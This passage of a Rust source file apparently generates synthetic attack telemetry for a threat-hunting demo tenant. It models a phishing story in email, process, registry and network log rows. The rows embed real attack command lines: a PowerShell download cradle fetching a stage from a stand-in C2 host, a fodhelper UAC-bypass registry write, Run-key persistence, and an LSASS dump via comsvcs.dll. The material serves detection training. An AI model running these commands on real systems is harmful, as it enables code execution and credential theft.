//! The attack stories embedded in the demo tenant, written across the hunting tables with
//! the same entities (devices, accounts, process ids, addresses) as the background.
//!
//! 1. Phishing to exfiltration: a payroll-themed phishing mail, a click, a macro document
//!    spawning an encoded PowerShell download cradle, command-and-control beaconing, a UAC
//!    bypass, an LSASS dump with `comsvcs.dll`, RDP with a stolen admin account to the file
//!    server, archive and upload of the finance share, and mass SharePoint downloads from
//!    the attacker's address.
//! 2. RDP brute force to ransomware: password guessing against the internet-facing web
//!    server until a service account falls, a backdoor local admin, Defender tampering, a
//!    downloaded payload with scheduled-task persistence, shadow-copy deletion and mass file
//!    renames to `.locked`.

use std::collections::{BTreeMap, HashMap};
use std::fmt::Write;

use peregrine_store::{IngestError, Store};

use crate::catalog::Img;
use crate::endpoint::{Logon, write_logon, write_process};
use crate::host::{Acct, Ctx, P, Proc, STORY_SEQ, account, file_of, head, initiating, report_id};
use crate::identity::{IdLogon, IdQuery, write_id_logon, write_id_query};
use crate::office::{CloudEvent, Mail, SHAREPOINT, doc_url, write_click, write_cloud, write_mail};
use crate::rng::{Rng, file_hashes, fnv, powershell_encoded};
use crate::sink::Sink;
use crate::world::{Device, HOUR, MIN, NETBIOS, SEC, World, utc_day};

pub(crate) const PHISH_SENDER: &str = "payroll@contoso-hr.net";
pub(crate) const PHISH_IP: &str = "203.0.113.45";
pub(crate) const PHISH_HOST: &str = "files.contoso-hr.net";
pub(crate) const PHISH_URL: &str = "https://files.contoso-hr.net/share/Q3_Bonus_Schedule.docm";
pub(crate) const PHISH_SUBJECT: &str = "ACTION REQUIRED: Q3 bonus schedule - confirm by EOD";
pub(crate) const PHISH_DOC: &str = "Q3_Bonus_Schedule.docm";
pub(crate) const C2_HOST: &str = "update.msoffice-cdn.net";
pub(crate) const C2_IP: &str = "198.51.100.23";
pub(crate) const EXFIL_IP: &str = "198.51.100.77";
pub(crate) const CRADLE: &str = "IEX (New-Object Net.WebClient).DownloadString('https://update.msoffice-cdn.net/ps/stage2.ps1')";
pub(crate) const BRUTE_IP: &str = "203.0.113.77";
pub(crate) const BACKDOOR_USER: &str = "support_tmp";

/// Rows of the stories, by table.
pub(crate) struct StoryOut<'a> {
    pub(crate) w: &'a World,
    store: &'a Store,
    pub sinks: BTreeMap<&'static str, Sink>,
    seqs: HashMap<(&'static str, usize, i64), u64>,
    alerts: u64,
}

impl<'a> StoryOut<'a> {
    pub(crate) fn new(w: &'a World, store: &'a Store) -> Self {
        StoryOut {
            w,
            store,
            sinks: BTreeMap::new(),
            seqs: HashMap::new(),
            alerts: 0,
        }
    }

    fn ok(&self, t: i64) -> bool {
        t >= self.w.start && t < self.w.now
    }

    fn sink(&mut self, table: &'static str) -> Result<&mut Sink, IngestError> {
        if !self.sinks.contains_key(table) {
            let s = Sink::new(self.store, table, 64)?;
            self.sinks.insert(table, s);
        }
        self.sinks
            .get_mut(table)
            .ok_or_else(|| IngestError::internal("story sink"))
    }

    /// A row of a device table: window check, the device-day context, a ReportId above the
    /// background ones.
    fn dev_row(
        &mut self,
        table: &'static str,
        dev: usize,
        t: i64,
        f: impl FnOnce(&mut Sink, &World, &Ctx, &Device, &mut u64),
    ) -> Result<(), IngestError> {
        if !self.ok(t) {
            return Ok(());
        }
        let w = self.w;
        let Some(device) = w.device(dev) else {
            return Ok(());
        };
        let day = utc_day(t);
        let ctx = Ctx::new(w, dev, day, w.start, w.now);
        let key = (table, dev, day);
        let mut seq = self.seqs.get(&key).copied().unwrap_or(STORY_SEQ);
        let s = self.sink(table)?;
        f(s, w, &ctx, device, &mut seq);
        self.seqs.insert(key, seq);
        Ok(())
    }

    /// A row of a table without devices.
    fn row(
        &mut self,
        table: &'static str,
        t: i64,
        f: impl FnOnce(&mut Sink, &World),
    ) -> Result<(), IngestError> {
        if !self.ok(t) {
            return Ok(());
        }
        let w = self.w;
        let s = self.sink(table)?;
        f(s, w);
        Ok(())
    }

    fn process(
        &mut self,
        dev: usize,
        t: i64,
        parent: &Proc,
        child: &Proc,
    ) -> Result<(), IngestError> {
        self.dev_row("DeviceProcessEvents", dev, t, |s, w, ctx, d, seq| {
            write_process(s, w, ctx, d, t, seq, parent, child);
        })
    }

    #[allow(clippy::too_many_arguments)]
    fn connect(
        &mut self,
        dev: usize,
        t: i64,
        by: &Proc,
        action: &'static str,
        remote_ip: &str,
        port: i32,
        url: &str,
        public: bool,
    ) -> Result<(), IngestError> {
        self.dev_row("DeviceNetworkEvents", dev, t, |s, w, ctx, d, seq| {
            let c = s.c;
            head(s, d, t, report_id(ctx.day, ctx.dev, *seq));
            *seq += 1;
            s.s(c.ActionType, action);
            s.s(c.RemoteIP, remote_ip);
            s.s(c.LocalIP, &d.ip);
            s.s(c.Protocol, "Tcp");
            s.s(c.LocalIPType, "Private");
            s.s(c.RemoteIPType, if public { "Public" } else { "Private" });
            let eph = 49_152 + (fnv(&format!("{t}{remote_ip}")) % 16_000) as i32;
            if action == "InboundConnectionAccepted" {
                s.i(c.LocalPort, port);
                s.i(c.RemotePort, eph);
            } else {
                s.i(c.RemotePort, port);
                s.i(c.LocalPort, eph);
                s.so(c.RemoteUrl, url);
            }
            initiating(s, w, by);
            s.end();
        })
    }

    #[allow(clippy::too_many_arguments)]
    fn file(
        &mut self,
        dev: usize,
        t: i64,
        by: &Proc,
        action: &'static str,
        folder: &str,
        name: &str,
        size: i64,
        extra: impl FnOnce(&mut Sink),
    ) -> Result<(), IngestError> {
        self.dev_row("DeviceFileEvents", dev, t, |s, w, ctx, d, seq| {
            let c = s.c;
            head(s, d, t, report_id(ctx.day, ctx.dev, *seq));
            *seq += 1;
            s.s(c.ActionType, action);
            s.s(c.FileName, name);
            s.f(c.FolderPath, format_args!("{folder}\\{name}"));
            let (sha1, sha256, md5) = file_hashes(name);
            s.s(c.SHA1, &sha1);
            s.s(c.SHA256, &sha256);
            s.s(c.MD5, &md5);
            s.l(c.FileSize, size);
            extra(s);
            initiating(s, w, by);
            s.end();
        })
    }

    #[allow(clippy::too_many_arguments)]
    fn registry(
        &mut self,
        dev: usize,
        t: i64,
        by: &Proc,
        key: &str,
        name: &str,
        vtype: &str,
        data: &str,
    ) -> Result<(), IngestError> {
        self.dev_row("DeviceRegistryEvents", dev, t, |s, w, ctx, d, seq| {
            let c = s.c;
            head(s, d, t, report_id(ctx.day, ctx.dev, *seq));
            *seq += 1;
            s.s(c.ActionType, "RegistryValueSet");
            s.s(c.RegistryKey, key);
            s.s(c.RegistryValueName, name);
            s.s(c.RegistryValueType, vtype);
            s.s(c.RegistryValueData, data);
            initiating(s, w, by);
            s.end();
        })
    }

    fn image(&mut self, dev: usize, t: i64, by: &Proc, dll: Img) -> Result<(), IngestError> {
        self.dev_row("DeviceImageLoadEvents", dev, t, |s, w, ctx, d, seq| {
            let c = s.c;
            head(s, d, t, report_id(ctx.day, ctx.dev, *seq));
            *seq += 1;
            s.s(c.ActionType, "ImageLoaded");
            file_of(s, w, dll);
            initiating(s, w, by);
            s.end();
        })
    }

    fn device_event(
        &mut self,
        dev: usize,
        t: i64,
        by: &Proc,
        action: &'static str,
        extra: impl FnOnce(&mut Sink, &World),
    ) -> Result<(), IngestError> {
        self.dev_row("DeviceEvents", dev, t, |s, w, ctx, d, seq| {
            let c = s.c;
            head(s, d, t, report_id(ctx.day, ctx.dev, *seq));
            *seq += 1;
            s.s(c.ActionType, action);
            extra(s, w);
            let (dom, name, sid, _, _) = account(w, by.acct);
            s.s(c.AccountDomain, dom);
            s.s(c.AccountName, name);
            s.s(c.AccountSid, sid);
            initiating(s, w, by);
            s.end();
        })
    }

    fn logon(&mut self, dev: usize, l: &Logon) -> Result<(), IngestError> {
        self.dev_row("DeviceLogonEvents", dev, l.t, |s, w, ctx, d, seq| {
            write_logon(s, w, ctx, d, seq, l);
        })
    }

    /// An alert and its evidence rows; `evidence` writes the entity columns of each.
    #[allow(clippy::too_many_arguments)]
    pub(crate) fn alert(
        &mut self,
        t: i64,
        title: &str,
        category: &str,
        severity: &str,
        service: &str,
        detection: &str,
        techniques: &str,
        evidence: &[&Evidence<'_>],
    ) -> Result<String, IngestError> {
        self.alerts += 1;
        let mut r = Rng::derive(&[self.w.seed, fnv("story-alert"), self.alerts]);
        let id = match service {
            "Microsoft Defender for Endpoint" => {
                format!(
                    "da{}_{}",
                    638_600_000_000_000_000u64 + r.below(99_999_999_999),
                    -(r.below(2_000_000_000) as i64)
                )
            }
            "Microsoft Defender for Office 365" => format!("fa{}", r.guid()),
            "Microsoft Defender for Cloud Apps" => format!("ca{}", r.hex(32)),
            _ => format!("aa{}", r.guid()),
        };
        self.row("AlertInfo", t, |s, _| {
            let c = s.c;
            s.t(c.Timestamp, t);
            s.s(c.AlertId, &id);
            s.s(c.Title, title);
            s.s(c.Category, category);
            s.s(c.Severity, severity);
            s.s(c.ServiceSource, service);
            s.s(c.DetectionSource, detection);
            s.s(c.AttackTechniques, techniques);
            s.end();
        })?;
        for e in evidence {
            self.row("AlertEvidence", t, |s, w| {
                let c = s.c;
                s.t(c.Timestamp, t);
                s.s(c.AlertId, &id);
                s.s(c.Title, title);
                s.f(c.Categories, format_args!("[\"{category}\"]"));
                s.s(c.AttackTechniques, techniques);
                s.s(c.ServiceSource, service);
                s.s(c.DetectionSource, detection);
                s.s(c.Severity, severity);
                e(s, w);
                s.end();
            })?;
        }
        Ok(id)
    }
}

/// Writes the entity columns of one `AlertEvidence` row.
pub(crate) type Evidence<'e> = dyn Fn(&mut Sink, &World) + 'e;

/// Evidence: a device.
pub(crate) fn ev_machine(d: &Device) -> impl Fn(&mut Sink, &World) + '_ {
    move |s, _| {
        let c = s.c;
        s.s(c.EntityType, "Machine");
        s.s(c.EvidenceRole, "Impacted");
        s.s(c.DeviceId, &d.id);
        s.s(c.DeviceName, &d.name);
        s.s(c.LocalIP, &d.ip);
    }
}

/// Evidence: a user account.
pub(crate) fn ev_user(u: usize, role: &'static str) -> impl Fn(&mut Sink, &World) {
    move |s, w| {
        let c = s.c;
        if let Some(u) = w.user(u) {
            s.s(c.EntityType, "User");
            s.s(c.EvidenceRole, role);
            s.s(c.AccountName, &u.sam);
            s.s(c.AccountDomain, NETBIOS);
            s.s(c.AccountSid, &u.sid);
            s.s(c.AccountObjectId, &u.object_id);
            s.s(c.AccountUpn, &u.upn);
        }
    }
}

/// Evidence: a process (with its image file).
pub(crate) fn ev_process<'p>(p: &'p Proc, d: &'p Device) -> impl Fn(&mut Sink, &World) + 'p {
    move |s, w| {
        let c = s.c;
        let img = w.image(p.img);
        s.s(c.EntityType, "Process");
        s.s(c.EvidenceRole, "Related");
        s.s(c.FileName, img.def.name);
        s.s(c.FolderPath, img.def.path);
        s.s(c.SHA1, &img.sha1);
        s.s(c.SHA256, &img.sha256);
        s.l(c.FileSize, img.def.size);
        s.s(c.ProcessCommandLine, &p.cmd);
        s.s(c.DeviceId, &d.id);
        s.s(c.DeviceName, &d.name);
        let (dom, name, sid, upn, oid) = account(w, p.acct);
        s.s(c.AccountDomain, dom);
        s.s(c.AccountName, name);
        s.s(c.AccountSid, sid);
        s.so(c.AccountUpn, upn);
        s.so(c.AccountObjectId, oid);
    }
}

/// Evidence: a file.
pub(crate) fn ev_file<'p>(
    name: &'p str,
    folder: &'p str,
    size: i64,
    d: Option<&'p Device>,
) -> impl Fn(&mut Sink, &World) + 'p {
    move |s, _| {
        let c = s.c;
        let (sha1, sha256, _) = file_hashes(name);
        s.s(c.EntityType, "File");
        s.s(c.EvidenceRole, "Impacted");
        s.s(c.FileName, name);
        s.f(c.FolderPath, format_args!("{folder}\\{name}"));
        s.s(c.SHA1, &sha1);
        s.s(c.SHA256, &sha256);
        s.l(c.FileSize, size);
        if let Some(d) = d {
            s.s(c.DeviceId, &d.id);
            s.s(c.DeviceName, &d.name);
        }
    }
}

pub(crate) fn ev_ip(ip: &'static str, url: &'static str) -> impl Fn(&mut Sink, &World) {
    move |s, _| {
        let c = s.c;
        s.s(c.EntityType, if url.is_empty() { "Ip" } else { "Url" });
        s.s(c.EvidenceRole, "Related");
        s.s(c.EvidenceDirection, "Source");
        s.s(c.RemoteIP, ip);
        s.so(c.RemoteUrl, url);
    }
}

/// A process of a story.
#[allow(clippy::too_many_arguments)]
fn proc(
    r: &mut Rng,
    img: Img,
    cmd: String,
    t: i64,
    acct: Acct,
    elevated: bool,
    logon_id: i64,
    parent: &Proc,
) -> Proc {
    Proc {
        img,
        pid: r.range(1_000, 12_000) * 4,
        cmd,
        created: t,
        acct,
        integrity: if matches!(acct, Acct::System) {
            "System"
        } else if elevated {
            "High"
        } else {
            "Medium"
        },
        elevation: if matches!(acct, Acct::System) {
            "TokenElevationTypeDefault"
        } else if elevated {
            "TokenElevationTypeFull"
        } else {
            "TokenElevationTypeLimited"
        },
        logon_id,
        session: if matches!(acct, Acct::System) { 0 } else { 2 },
        parent_img: parent.img,
        parent_pid: parent.pid,
        parent_created: parent.created,
    }
}

fn iso(t: i64) -> String {
    crate::world::iso_seconds(t)
}

/// Writes both stories; returns their one-line descriptions.
pub(crate) fn write(out: &mut StoryOut) -> Result<Vec<String>, IngestError> {
    let one = phishing(out)?;
    let two = brute_force(out)?;
    Ok(vec![one, two])
}

#[allow(clippy::too_many_lines)]
fn phishing(o: &mut StoryOut) -> Result<String, IngestError> {
    let w = o.w;
    let plan = &w.plan;
    let mut r = Rng::derive(&[w.seed, fnv("story-1")]);
    let t0 = plan.s1_start;
    let vd_i = plan.victim_dev;
    let fs_i = plan.lateral_dev;
    let (Some(vd), Some(fs), Some(victim), Some(admin)) = (
        w.device(vd_i),
        w.device(fs_i),
        w.user(plan.victim_user),
        w.user(plan.admin_user),
    ) else {
        return Ok("phishing story skipped: too few entities".into());
    };
    let dc = w.device(vd.dc);
    let sam = victim.sam.clone();
    let ctx = Ctx::new(w, vd_i, utc_day(t0), w.start, w.now);
    let egress = w.egress_ips.first().map_or("", |s| s.as_str()).to_string();
    let fallback_parent = Proc {
        img: Img::Explorer,
        pid: 4321 * 4,
        cmd: r"C:\Windows\Explorer.EXE".into(),
        created: t0,
        acct: Acct::User(plan.victim_user),
        integrity: "Medium",
        elevation: "TokenElevationTypeLimited",
        logon_id: ctx.logon_id,
        session: 1,
        parent_img: Img::Userinit,
        parent_pid: 4300 * 4,
        parent_created: t0,
    };
    let explorer = ctx.proc(P::Explorer).cloned().unwrap_or(fallback_parent);
    let browser = ctx
        .first(&[P::Edge, P::Chrome])
        .cloned()
        .unwrap_or_else(|| explorer.clone());
    let lsass_pid = ctx.proc(P::Lsass).map_or(788, |p| p.pid);
    let vacct = Acct::User(plan.victim_user);
    let logon_id = ctx.logon_id;

    // The campaign mail, one row per recipient, same message id.
    let nmid = r.guid();
    let imid = format!("<{}@contoso-hr.net>", r.hex(24));
    let t_mail = t0 - 32 * MIN;
    for (k, &u) in plan.phish_recipients.iter().enumerate() {
        let Some(ru) = w.user(u) else { continue };
        let t = t_mail + k as i64 * 2 * SEC;
        let rid = format!("{nmid}-{}", 70_000 + k);
        o.row("EmailEvents", t, |s, _| {
            write_mail(
                s,
                &Mail {
                    t,
                    nmid: &nmid,
                    imid: &imid,
                    sender: PHISH_SENDER,
                    sender_name: "Contoso HR Payroll",
                    sender_oid: "",
                    sender_ip: PHISH_IP,
                    recipient: &ru.upn,
                    recipient_oid: &ru.object_id,
                    subject: PHISH_SUBJECT,
                    direction: "Inbound",
                    delivery_action: "Delivered",
                    delivery_location: "Inbox/folder",
                    latest_location: "Quarantine",
                    latest_action: "Moved to quarantine",
                    threat: "Phish",
                    threat_names: "",
                    detection: "{\"Phish\":[\"URL detonation reputation\",\"Impersonation domain\"]}",
                    confidence: "{\"Phish\":\"High\"}",
                    bcl: 0,
                    email_action: "",
                    policy: "",
                    auth: "{\"SPF\":\"pass\",\"DKIM\":\"pass\",\"DMARC\":\"pass\",\"CompAuth\":\"pass\"}",
                    attachments: 1,
                    urls: 1,
                    report_id: &rid,
                },
            );
        })?;
        o.row("EmailAttachmentInfo", t, |s, _| {
            let c = s.c;
            let (_, sha256, _) = file_hashes("Q3_Bonus_Schedule.pdf");
            s.t(c.Timestamp, t);
            s.s(c.NetworkMessageId, &nmid);
            s.s(c.SenderFromAddress, PHISH_SENDER);
            s.s(c.SenderDisplayName, "Contoso HR Payroll");
            s.s(c.RecipientEmailAddress, &ru.upn);
            s.s(c.RecipientObjectId, &ru.object_id);
            s.s(c.FileName, "Q3_Bonus_Schedule.pdf");
            s.s(c.FileType, "pdf");
            s.s(c.SHA256, &sha256);
            s.l(c.FileSize, 84_312);
            s.s(c.ThreatTypes, "Phish");
            s.s(
                c.DetectionMethods,
                "{\"Phish\":[\"URL detonation reputation\"]}",
            );
            s.f(c.ReportId, format_args!("{rid}-a0"));
            s.end();
        })?;
        // Post-delivery removal (zero-hour auto purge) once the URL's verdict changed.
        let tz = t0 + 5 * HOUR + 30 * MIN + k as i64 * SEC;
        o.row("EmailPostDeliveryEvents", tz, |s, _| {
            let c = s.c;
            s.t(c.Timestamp, tz);
            s.s(c.NetworkMessageId, &nmid);
            s.s(c.InternetMessageId, &imid);
            s.s(c.Action, "Moved to quarantine");
            s.s(c.ActionType, "Phish ZAP");
            s.s(c.ActionTrigger, "SpecialAction");
            s.s(c.ActionResult, "Success");
            s.s(c.RecipientEmailAddress, &ru.upn);
            s.s(c.DeliveryLocation, "Quarantine");
            s.s(c.ThreatTypes, "Phish");
            s.s(
                c.DetectionMethods,
                "{\"Phish\":[\"URL detonation reputation\"]}",
            );
            s.f(c.ReportId, format_args!("{rid}-z"));
            s.end();
        })?;
    }
    o.row("EmailUrlInfo", t_mail, |s, _| {
        let c = s.c;
        s.t(c.Timestamp, t_mail);
        s.s(c.NetworkMessageId, &nmid);
        s.s(c.Url, PHISH_URL);
        s.s(c.UrlDomain, PHISH_HOST);
        s.s(c.UrlLocation, "Body");
        s.f(c.ReportId, format_args!("{nmid}-u0"));
        s.end();
    })?;

    // The click, the download, the document.
    let t_click = t0 + 47 * MIN;
    let click_rid = r.guid();
    o.row("UrlClickEvents", t_click, |s, _| {
        write_click(
            s,
            t_click,
            PHISH_URL,
            &victim.upn,
            &nmid,
            "ClickAllowed",
            "Email",
            &egress,
            &click_rid,
        );
    })?;
    o.connect(
        vd_i,
        t_click + 2 * SEC,
        &browser,
        "ConnectionSuccess",
        PHISH_IP,
        443,
        PHISH_HOST,
        true,
    )?;
    let downloads = format!("C:\\Users\\{sam}\\Downloads");
    o.file(
        vd_i,
        t_click + 9 * SEC,
        &browser,
        "FileCreated",
        &downloads,
        PHISH_DOC,
        48_640,
        |s| {
            let c = s.c;
            s.s(c.FileOriginUrl, PHISH_URL);
            s.s(c.FileOriginReferrerUrl, "https://outlook.office.com/");
            s.s(c.FileOriginIP, PHISH_IP);
        },
    )?;
    let t_word = t_click + 55 * SEC;
    let word = proc(
        &mut r,
        Img::Word,
        format!(
            "\"C:\\Program Files\\Microsoft Office\\Root\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\{sam}\\Downloads\\{PHISH_DOC}\" /o \"\""
        ),
        t_word,
        vacct,
        false,
        logon_id,
        &explorer,
    );
    o.process(vd_i, t_word, &explorer, &word)?;
    o.image(vd_i, t_word + 3 * SEC, &word, Img::Wwlib)?;
    o.image(vd_i, t_word + 31 * SEC, &word, Img::Vbe7)?;

    // Macro → encoded PowerShell download cradle.
    let t_ps = t_word + 41 * SEC;
    let ps_cmd = format!(
        "powershell.exe -NoP -NonI -W Hidden -Exec Bypass -EncodedCommand {}",
        powershell_encoded(CRADLE)
    );
    let ps = proc(
        &mut r,
        Img::PowerShell,
        ps_cmd,
        t_ps,
        vacct,
        false,
        logon_id,
        &word,
    );
    o.process(vd_i, t_ps, &word, &ps)?;
    let conhost = proc(
        &mut r,
        Img::Conhost,
        r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1".into(),
        t_ps + 20_000_000,
        vacct,
        false,
        logon_id,
        &ps,
    );
    o.process(vd_i, t_ps + 20_000_000, &ps, &conhost)?;
    o.device_event(
        vd_i,
        t_ps + 100_000_000,
        &word,
        "AsrOfficeChildProcessAudited",
        |s, w| {
            let c = s.c;
            file_of(s, w, Img::PowerShell);
            s.s(c.ProcessCommandLine, &ps.cmd);
            s.l(c.ProcessId, ps.pid);
            s.s(c.AdditionalFields, "{\"IsAudit\":true}");
        },
    )?;
    o.image(vd_i, t_ps + SEC, &ps, Img::SmaNi)?;
    o.image(vd_i, t_ps + SEC, &ps, Img::Amsi)?;
    for (k, cmdlet) in ["New-Object", "Invoke-Expression", "Start-Sleep"]
        .iter()
        .enumerate()
    {
        o.device_event(
            vd_i,
            t_ps + (2 + k as i64) * SEC,
            &ps,
            "PowerShellCommand",
            |s, _| {
                let c = s.c;
                s.f(
                    c.AdditionalFields,
                    format_args!("{{\"Command\":\"{cmdlet}\"}}"),
                );
            },
        )?;
    }
    // Command and control: first contact, then a beacon about every minute.
    let t_c2 = t_ps + 4 * SEC;
    o.connect(
        vd_i,
        t_c2,
        &ps,
        "ConnectionSuccess",
        C2_IP,
        443,
        C2_HOST,
        true,
    )?;
    o.device_event(vd_i, t_c2 - SEC, &ps, "DnsQueryResponse", |s, _| {
        let c = s.c;
        s.f(
            c.AdditionalFields,
            format_args!("{{\"DnsQueryString\":\"{C2_HOST}\",\"DnsQueryResult\":[{{\"DnsQueryType\":1,\"DnsQueryTypeName\":\"A\",\"DnsQueryResultRecord\":\"{C2_IP}\"}}]}}"),
        );
    })?;
    let mut tb = t_c2 + 60 * SEC;
    while tb < t0 + 6 * HOUR {
        o.connect(
            vd_i,
            tb,
            &ps,
            "ConnectionSuccess",
            C2_IP,
            443,
            C2_HOST,
            true,
        )?;
        tb += 55 * SEC + r.range(0, 10 * SEC);
    }
    let stage = r"C:\ProgramData\MSOfficeUpdate";
    o.file(
        vd_i,
        t_c2 + 3 * SEC,
        &ps,
        "FileCreated",
        stage,
        "msoupd.ps1",
        18_244,
        |_| {},
    )?;
    let run_key = format!(
        "HKEY_CURRENT_USER\\{}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
        victim.sid
    );
    o.registry(
        vd_i,
        t_c2 + 5 * SEC,
        &ps,
        &run_key,
        "MSOfficeUpdate",
        "String",
        "powershell.exe -NoP -W Hidden -File C:\\ProgramData\\MSOfficeUpdate\\msoupd.ps1",
    )?;

    // Reconnaissance.
    let t_recon = t0 + HOUR + 5 * MIN;
    let recon: [(Img, &str); 4] = [
        (Img::Whoami, "\"C:\\Windows\\system32\\whoami.exe\" /all"),
        (
            Img::Net,
            "\"C:\\Windows\\system32\\net.exe\" group \"Domain Admins\" /domain",
        ),
        (
            Img::Nltest,
            "\"C:\\Windows\\system32\\nltest.exe\" /dclist:contoso.com",
        ),
        (
            Img::Net,
            "\"C:\\Windows\\system32\\net.exe\" view \\\\srv-file-01.contoso.com",
        ),
    ];
    for (k, (img, cmd)) in recon.iter().enumerate() {
        let t = t_recon + k as i64 * 47 * SEC;
        let p = proc(
            &mut r,
            *img,
            (*cmd).to_string(),
            t,
            vacct,
            false,
            logon_id,
            &ps,
        );
        o.process(vd_i, t, &ps, &p)?;
        if *img == Img::Net {
            let cmd1 = cmd
                .replace("net.exe\"", "net1.exe\"")
                .replace("\\net.exe", "\\net1.exe");
            let p1 = proc(
                &mut r,
                Img::Net1,
                cmd1,
                t + 15_000_000,
                vacct,
                false,
                logon_id,
                &p,
            );
            o.process(vd_i, t + 15_000_000, &p, &p1)?;
        }
    }
    let t_samr = t_recon + 47 * SEC + 200_000_000;
    let qrid = format!("{}-q", r.guid());
    o.row("IdentityQueryEvents", t_samr, |s, _| {
        write_id_query(
            s,
            &IdQuery {
                t: t_samr,
                action: "SAMR query",
                query_type: "QueryGroup",
                target: "Domain Admins",
                query: "QueryGroup",
                protocol: "Samr",
                user: Some(victim),
                device: vd,
                dest: dc,
                dest_port: 445,
                target_upn: "",
                target_name: "Domain Admins",
                report_id: &qrid,
            },
        );
    })?;
    let t_ldap = t_recon + 2 * 47 * SEC;
    let qrid2 = format!("{}-q", r.guid());
    o.row("IdentityQueryEvents", t_ldap, |s, _| {
        write_id_query(
            s,
            &IdQuery {
                t: t_ldap,
                action: "LDAP query",
                query_type: "Computers",
                target: "",
                query: "Search Scope: WholeSubtree, Base Object:DC=contoso,DC=com, Search Filter:(&(objectCategory=computer)(operatingSystem=*server*))",
                protocol: "Ldap",
                user: Some(victim),
                device: vd,
                dest: dc,
                dest_port: 389,
                target_upn: "",
                target_name: "",
                report_id: &qrid2,
            },
        );
    })?;

    // Earlier that morning the helpdesk admin had connected to the victim's device: its
    // credentials are in LSASS.
    let it_ws = w
        .workstations
        .get(1)
        .and_then(|&i| w.device(i))
        .unwrap_or(vd);
    let t_help = t0 + 20 * MIN;
    let admin_acct = Acct::User(plan.admin_user);
    let winlogon = ctx.proc(P::Winlogon).cloned();
    o.logon(
        vd_i,
        &Logon {
            t: t_help,
            action: "LogonSuccess",
            logon_type: "RemoteInteractive",
            protocol: "Negotiate",
            acct: admin_acct,
            raw_name: None,
            failure: "",
            logon_id: 0x2a_f3c1,
            remote: Some((it_ws.ip.as_str(), it_ws.netbios.as_str(), false)),
            by: winlogon.as_ref(),
        },
    )?;

    // UAC bypass (fodhelper) → elevated PowerShell → LSASS dump with comsvcs.dll.
    let t_uac = t0 + HOUR + 20 * MIN;
    let ms_settings = format!(
        "HKEY_CURRENT_USER\\{}_Classes\\ms-settings\\Shell\\Open\\command",
        victim.sid
    );
    let stager = format!(
        "powershell.exe -NoP -W Hidden -EncodedCommand {}",
        powershell_encoded("IEX (Get-Content C:\\ProgramData\\MSOfficeUpdate\\msoupd.ps1 -Raw)")
    );
    o.registry(
        vd_i,
        t_uac,
        &ps,
        &ms_settings,
        "(Default)",
        "String",
        &stager,
    )?;
    o.registry(
        vd_i,
        t_uac + 100_000_000,
        &ps,
        &ms_settings,
        "DelegateExecute",
        "String",
        "",
    )?;
    let fod = proc(
        &mut r,
        Img::Fodhelper,
        "\"C:\\Windows\\system32\\fodhelper.exe\"".into(),
        t_uac + 2 * SEC,
        vacct,
        true,
        logon_id,
        &ps,
    );
    o.process(vd_i, t_uac + 2 * SEC, &ps, &fod)?;
    let ps2 = proc(
        &mut r,
        Img::PowerShell,
        stager.clone(),
        t_uac + 3 * SEC,
        vacct,
        true,
        logon_id + 1,
        &fod,
    );
    o.process(vd_i, t_uac + 3 * SEC, &fod, &ps2)?;
    let t_dump = t0 + HOUR + 25 * MIN;
    let dump_cmd = format!(
        "\"C:\\Windows\\System32\\rundll32.exe\" C:\\Windows\\System32\\comsvcs.dll, MiniDump {lsass_pid} C:\\ProgramData\\MSOfficeUpdate\\lsass.dmp full"
    );
    let rundll = proc(
        &mut r,
        Img::Rundll32,
        dump_cmd,
        t_dump,
        vacct,
        true,
        logon_id + 1,
        &ps2,
    );
    o.process(vd_i, t_dump, &ps2, &rundll)?;
    o.image(vd_i, t_dump + 50_000_000, &rundll, Img::Comsvcs)?;
    o.image(vd_i, t_dump + 60_000_000, &rundll, Img::Dbgcore)?;
    o.device_event(
        vd_i,
        t_dump + 200_000_000,
        &rundll,
        "OpenProcessApiCall",
        |s, w| {
            let c = s.c;
            file_of(s, w, Img::Lsass);
            s.l(c.ProcessId, lsass_pid);
            s.s(c.ProcessCommandLine, r"C:\Windows\system32\lsass.exe");
            s.s(c.AdditionalFields, "{\"DesiredAccess\":2097151}");
        },
    )?;
    o.file(
        vd_i,
        t_dump + 2 * SEC,
        &rundll,
        "FileCreated",
        stage,
        "lsass.dmp",
        58_163_712,
        |_| {},
    )?;

    // Lateral movement: RDP to the file server as the admin.
    let t_rdp = t0 + 2 * HOUR + 10 * MIN;
    let mstsc = proc(
        &mut r,
        Img::Mstsc,
        "\"C:\\Windows\\system32\\mstsc.exe\" /v:srv-file-01.contoso.com /admin".into(),
        t_rdp,
        vacct,
        true,
        logon_id + 1,
        &ps2,
    );
    o.process(vd_i, t_rdp, &ps2, &mstsc)?;
    o.image(vd_i, t_rdp + SEC, &mstsc, Img::Mstscax)?;
    o.connect(
        vd_i,
        t_rdp + 2 * SEC,
        &mstsc,
        "ConnectionSuccess",
        &fs.ip,
        3389,
        "",
        false,
    )?;
    let fs_ctx = Ctx::new(w, fs_i, utc_day(t_rdp), w.start, w.now);
    let fs_lsass = fs_ctx.proc(P::Lsass).cloned();
    let fs_winlogon = fs_ctx.proc(P::Winlogon).cloned();
    let fs_svc = fs_ctx
        .proc(P::SvcNetwork)
        .cloned()
        .or_else(|| fs_ctx.proc(P::SvcNetsvcs).cloned());
    if let Some(svc) = &fs_svc {
        o.connect(
            fs_i,
            t_rdp + 2 * SEC,
            svc,
            "InboundConnectionAccepted",
            &vd.ip,
            3389,
            "",
            false,
        )?;
    }
    let rdp_logon = 0x5c_a11e;
    o.logon(
        fs_i,
        &Logon {
            t: t_rdp + 4 * SEC,
            action: "LogonSuccess",
            logon_type: "Network",
            protocol: "Kerberos",
            acct: admin_acct,
            raw_name: None,
            failure: "",
            logon_id: rdp_logon - 7,
            remote: Some((vd.ip.as_str(), vd.netbios.as_str(), false)),
            by: fs_lsass.as_ref(),
        },
    )?;
    o.logon(
        fs_i,
        &Logon {
            t: t_rdp + 9 * SEC,
            action: "LogonSuccess",
            logon_type: "RemoteInteractive",
            protocol: "Negotiate",
            acct: admin_acct,
            raw_name: None,
            failure: "",
            logon_id: rdp_logon,
            remote: Some((vd.ip.as_str(), vd.netbios.as_str(), false)),
            by: fs_winlogon.as_ref(),
        },
    )?;
    let id_rid = format!("{}-l", r.guid());
    o.row("IdentityLogonEvents", t_rdp + 5 * SEC, |s, _| {
        write_id_logon(
            s,
            &IdLogon {
                t: t_rdp + 5 * SEC,
                action: "LogonSuccess",
                application: "Active Directory",
                logon_type: "Remote desktop",
